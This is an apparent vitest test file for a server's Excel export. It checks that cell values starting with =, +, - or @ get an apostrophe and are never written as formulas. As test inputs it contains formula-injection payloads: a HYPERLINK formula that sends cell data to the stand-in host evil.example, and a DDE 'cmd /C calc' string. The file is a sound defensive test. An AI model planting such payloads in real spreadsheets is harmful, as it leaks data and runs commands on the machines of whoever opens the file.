import ExcelJS from "exceljs";
import { afterAll, beforeAll, expect, it } from "vitest";
import { neutralizeFormula } from "../../apps/server/src/modules/export/formula.js";
import { Client, loginAs } from "../support/client.js";
import { describeEachDb, startTestServer, type TestServer } from "../support/server.js";

it("neutralizes text a spreadsheet would read as a formula, and nothing else", () => {
  for (const s of ["=1+2", "+86 139", "-2", "@SUM(A1)", "\t=1", "\r=1"]) expect(neutralizeFormula(s)).toBe(`'${s}`);
  for (const s of ["周小舟", "1-2", "a=b", "", "'=1", "３＝"]) expect(neutralizeFormula(s)).toBe(s);
});

describeEachDb("exports write user text as text, never as a formula", (variant) => {
  let server: TestServer;
  let county: Client;
  beforeAll(async () => {
    server = await startTestServer(variant);
    county = await loginAs(server.url, "ra_county");
  });
  afterAll(() => server?.stop());

  it("prefixes = + - @ in the cells of an export with an apostrophe (the users list, lock reasons typed by a reviewer)", async () => {
    const reasons = ["=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"];
    const { users } = await county.gql<{ users: { items: { id: string; account: string; locked: boolean }[] } }>(`{ users(search: "ra_teacher", limit: 50) { items { id account locked } } }`);
    const targets = users.items.filter((u) => !u.locked).slice(0, reasons.length);
    expect(targets).toHaveLength(reasons.length);
    for (const [i, u] of targets.entries()) {
      await county.gql(`mutation($u: ID!, $r: String!) { lockUser(userId: $u, reason: $r) { id } }`, { u: u.id, r: reasons[i] });
    }
    const res = await fetch(`${server.url}/api/export/users.xlsx?locked=true`, { headers: { authorization: `Bearer ${county.token}` } });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = wb.worksheets[0]!;
    const rows = ws.getSheetValues().slice(4).filter(Boolean).map((r) => (r as unknown[]).slice(1));
    for (const [i, u] of targets.entries()) {
      const row = rows.find((r) => r[0] === u.account)!;
      expect(row[8]).toBe(`'${reasons[i]}`);
    }
    // No cell of the file is a formula.
    ws.eachRow((row) => row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
